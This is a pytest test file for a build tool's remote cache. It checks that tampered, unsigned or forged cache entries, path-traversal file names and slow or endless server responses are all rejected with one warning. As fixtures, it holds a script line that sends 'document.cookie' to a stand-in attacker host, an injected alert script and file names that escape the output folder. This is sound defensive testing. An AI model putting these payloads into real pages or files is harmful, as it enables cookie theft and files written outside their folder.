"""A remote cache that lies, through the real CLI against real servers on 127.0.0.1: tampered action
entries (against nginx), entries unsigned or signed with the wrong key, a server that trickles a
byte at a time and one that sends an endless body (a small http.server thread). Each costs one
warning and a correct local build; nothing it sent reaches the output folder or the local cache."""

import hashlib
import hmac
import io
import json
import shutil
import threading
from contextlib import redirect_stderr, redirect_stdout
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from nginx_fixture import nginx  # noqa: F401  (a fixture)

from kuma_build.cli import main

MODELS = {"mlp": "nn.Sequential(nn.Linear(20, 33), nn.ReLU(), nn.Linear(33, 5))",
          "other": "nn.Sequential(nn.Linear(20, 8))"}

TOML = """
[build]
out_dir = "out"

[cache]
{cache}
"""

MODEL_TOML = """
[models.{name}]
source = "models/{name}.py"
factory = "build_model"
[models.{name}.inputs]
x = {{ shape = [3, 20], dtype = "float32" }}
"""


def project(tmp_path: Path, name: str, cache: str) -> Path:
    """A fresh checkout with its own empty local cache."""
    root = tmp_path / name
    (root / "models").mkdir(parents=True)
    for model, body in MODELS.items():
        (root / "models" / f"{model}.py").write_text(f"from torch import nn\n\ndef build_model():\n    return {body}\n")
    (root / "kuma.toml").write_text(TOML.format(cache=cache) + "".join(MODEL_TOML.format(name=m) for m in MODELS))
    return root


def kuma(root: Path, *args, env=None) -> tuple[str, str]:
    """`kuma build` through the CLI's main(), in this process (torch stays imported: seconds, not minutes)."""
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch, redirect_stdout(out), redirect_stderr(err):
        for name, value in {"KUMA_CACHE_DIR": str(root / "cache"), "no_proxy": "127.0.0.1", **(env or {})}.items():
            patch.setenv(name, value)
        code = main(["build", "--config", str(root / "kuma.toml"), *args])
    assert code == 0, out.getvalue() + err.getvalue()
    return out.getvalue(), err.getvalue()


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def warnings(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("[kuma] warning")]


def local_blobs(root: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in (root / "cache" / "blobs").rglob("*") if p.is_file()}


def put(store: Path, data: bytes) -> dict:
    """Store a blob on the server under its true hash; its entry record."""
    sha = hashlib.sha256(data).hexdigest()
    (store / "cas" / sha).write_bytes(data)
    return {"sha256": sha, "size": len(data)}


def assert_rejected_cleanly(root: Path, reference: dict, out: str, err: str, poison: list[bytes]):
    """One warning, a local build identical to the reference, and no trace of the poison locally."""
    assert "[kuma] built mlp" in out, out + err
    assert len(warnings(err)) == 1 and "that Kuma rejects" in err, err
    assert snapshot(root / "out" / "mlp") == reference
    blobs = local_blobs(root)
    assert all(hashlib.sha256(data).hexdigest() == sha for sha, data in blobs.items())
    assert not any(data in blobs.values() for data in poison)
    (entry,) = (root / "cache" / "models").iterdir()
    assert {path: blobs[r["sha256"]] for path, r in json.loads(entry.read_text())["files"].items()} == \
        {path: data for path, data in reference.items() if path != ".kuma-output.json"}


def tamper_index_js_other_blob(entry, store, others):
    evil = b"fetch('https://evil.example/?' + document.cookie);\n"
    entry["files"]["index.js"] = put(store, evil)
    return [evil]


def tamper_index_js_appended(entry, store, others):
    # the best an attacker can do without the key: Kuma's own rendering, plus a line
    index_js = (store / "cas" / entry["files"]["index.js"]["sha256"]).read_bytes()
    evil = index_js + b"\nfetch('https://evil.example/');\n"
    entry["files"]["index.js"] = put(store, evil)
    return [evil]


def tamper_extra_file(entry, store, others):
    evil = b"<script>alert(1)</script>"
    entry["files"]["evil.html"] = put(store, evil)
    return [evil]


def tamper_path_traversal(entry, store, others):
    evil = b"export const pwned = true;\n"
    entry["files"]["../../outside.js"] = put(store, evil)
    return [evil]


def tamper_absolute_path(entry, store, others):
    evil = b"pwned\n"
    entry["files"]["/tmp/kuma-pwned"] = put(store, evil)
    return [evil]


def tamper_renamed_chunk(entry, store, others):
    chunk = next(path for path in entry["files"] if path.startswith("weights/"))
    entry["files"]["weights/" + "0" * 20 + ".bin"] = entry["files"].pop(chunk)
    return []


def tamper_wrong_key(entry, store, others):
    entry["key"] = "0" * 64
    return []


def tamper_other_model(entry, store, others):
    entry.clear()
    entry.update(others["other"])
    return []


def tamper_other_model_relabelled(entry, store, others):
    key = entry["key"]
    entry.clear()
    entry.update({**others["other"], "model": "mlp", "key": key})
    return []


TAMPERS = [tamper_index_js_other_blob, tamper_index_js_appended, tamper_extra_file, tamper_path_traversal,
           tamper_absolute_path, tamper_renamed_chunk, tamper_wrong_key, tamper_other_model, tamper_other_model_relabelled]


def test_tampered_entries_never_reach_the_output_or_the_local_cache(nginx, tmp_path):
    cache = f'remote = "{nginx.url}/kuma"'
    a = project(tmp_path, "a", cache)
    kuma(a)
    reference = snapshot(a / "out" / "mlp")
    store = nginx.root / "kuma"
    entries = {json.loads(p.read_text())["model"]: (p, json.loads(p.read_text())) for p in (store / "ac").iterdir()}
    path, good = entries["mlp"]
    for tamper in TAMPERS:
        entry = json.loads(json.dumps(good))
        poison = tamper(entry, store, {name: e for name, (_, e) in entries.items()})
        path.write_text(json.dumps(entry))
        b = project(tmp_path, tamper.__name__, cache)
        out, err = kuma(b, "mlp")
        assert_rejected_cleanly(b, reference, out, err, poison)
        assert not (tmp_path / "outside.js").exists() and not Path("/tmp/kuma-pwned").exists()
    # the poison does not stay in a local cache either: the same checks run on every local read
    path.write_text(json.dumps(good))
    b = project(tmp_path, "local", cache)
    kuma(b, "mlp")
    (local,) = (b / "cache" / "models").iterdir()
    entry = json.loads(local.read_text())
    evil = reference["index.js"] + b"alert('from the local cache');\n"
    sha = hashlib.sha256(evil).hexdigest()
    (b / "cache" / "blobs" / sha[:2]).mkdir(exist_ok=True)
    (b / "cache" / "blobs" / sha[:2] / sha).write_bytes(evil)
    entry["files"]["index.js"] = {"sha256": sha, "size": len(evil)}
    local.write_text(json.dumps(entry))
    shutil.rmtree(b / "out")
    out, err = kuma(b, "mlp", "--remote-read-only")
    assert "[kuma] restored mlp from remote cache" in out
    assert warnings(err) == [f"[kuma] warning: discarded cache entry {local}: it has an index.js or index.d.ts that is "
                             "not Kuma's rendering of its program; rebuilding what it held"]
    assert snapshot(b / "out" / "mlp") == reference


def test_signed_entries(nginx, tmp_path, monkeypatch):
    monkeypatch.delenv("KUMA_TEST_KEY", raising=False)
    cache = f'remote = "{nginx.url}/kuma"\nremote_key_env = "KUMA_TEST_KEY"'
    key = {"KUMA_TEST_KEY": "team secret"}
    a = project(tmp_path, "a", cache)
    kuma(a, "mlp", env=key)
    reference = snapshot(a / "out" / "mlp")
    (path,) = (nginx.root / "kuma" / "ac").iterdir()
    signed = json.loads(path.read_text())
    assert "hmac" in signed

    b = project(tmp_path, "b", cache)
    out, err = kuma(b, "mlp", env=key)
    assert "[kuma] restored mlp from remote cache" in out and not warnings(err)
    assert snapshot(b / "out" / "mlp") == reference

    # without the key a build can check nothing: it leaves the remote alone
    seen = len(nginx.requests())
    c = project(tmp_path, "c", cache)
    out, err = kuma(c, "mlp")
    assert "[kuma] built mlp" in out and len(nginx.requests()) == seen
    assert warnings(err) == [f"[kuma] warning: remote cache {nginx.url}/kuma is not used: cache.remote_key_env names "
                             "KUMA_TEST_KEY, which is not set, so its entries cannot be checked; building locally"]

    unsigned = {k: v for k, v in signed.items() if k != "hmac"}
    body = json.dumps(unsigned, sort_keys=True, separators=(",", ":")).encode()
    forged = {**unsigned, "hmac": hmac.new(b"another key", body, hashlib.sha256).hexdigest()}
    for name, entry in [("unsigned", unsigned), ("forged", forged)]:
        path.write_text(json.dumps(entry))
        d = project(tmp_path, name, cache)
        out, err = kuma(d, "mlp", "--remote-read-only", env=key)
        assert_rejected_cleanly(d, reference, out, err, [])
        assert "is not signed with the key in KUMA_TEST_KEY" in err


class Misbehaving(BaseHTTPRequestHandler):
    """Serves a store folder, except that GETs of `bad_path` go wrong in the server's `mode`."""

    def do_GET(self):
        server = self.server
        file = server.root / self.path.lstrip("/")
        if self.path != server.bad_path:
            data = file.read_bytes() if file.is_file() else None
            self.send_response(200 if data is not None else 404)
            self.send_header("Content-Length", str(len(data or b"")))
            self.end_headers()
            self.wfile.write(data or b"")
            return
        self.send_response(200)
        if server.mode == "announced":
            self.send_header("Content-Length", str(3 << 29))  # 1.5 GiB
        self.end_headers()
        piece = b"x" if server.mode == "trickle" else b"\0" * (1 << 16)
        try:  # bounded: until the client hangs up, the test ends, or 256 MiB
            for _ in range(4096):
                self.wfile.write(piece)
                self.wfile.flush()
                if server.mode == "trickle" and server.stop.wait(0.05):
                    break
        except OSError:
            pass  # the client hung up: what it should do

    def log_message(self, *args):
        pass


@pytest.fixture
def misbehaving(tmp_path):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Misbehaving)
    server.daemon_threads = True
    server.root, server.stop = tmp_path / "server", threading.Event()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.stop.set()
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize("mode, target, problem", [
    ("trickle", "entry", "timed out after 1 s"),
    ("endless", "blob", "sent more than the {size} bytes expected for GET cas/{sha12}"),
    ("announced", "blob", "announced 1610612736 bytes for GET cas/{sha12}, more than the {size} expected"),
    ("endless", "entry", "sent more than the 1048576 bytes expected for GET ac/{key12}"),
])
def test_slow_or_oversized_answers_cost_one_warning(misbehaving, tmp_path, mode, target, problem):
    a = project(tmp_path, "a", "")
    kuma(a, "mlp")
    reference = snapshot(a / "out" / "mlp")
    # the remote store: a's local cache laid out as ac/ and cas/
    (local,) = (a / "cache" / "models").iterdir()
    store = misbehaving.root / "kuma"
    (store / "ac").mkdir(parents=True)
    (store / "ac" / local.stem).write_text(local.read_text())
    (store / "cas").mkdir()
    for blob in (a / "cache" / "blobs").rglob("*"):
        if blob.is_file():
            shutil.copy(blob, store / "cas" / blob.name)
    record = json.loads(local.read_text())["files"]["index.js"]
    misbehaving.mode = mode
    misbehaving.bad_path = f"/kuma/ac/{local.stem}" if target == "entry" else f"/kuma/cas/{record['sha256']}"

    url = f"http://127.0.0.1:{misbehaving.server_address[1]}/kuma"
    b = project(tmp_path, "b", f'remote = "{url}"\nremote_timeout = 1\nremote_write = false')
    out, err = kuma(b, "mlp")
    assert "[kuma] built mlp" in out
    expected = problem.format(size=record["size"], sha12=record["sha256"][:12], key12=local.stem[:12])
    assert warnings(err) == [f"[kuma] warning: remote cache {url} {expected}; building locally"]
    assert snapshot(b / "out" / "mlp") == reference
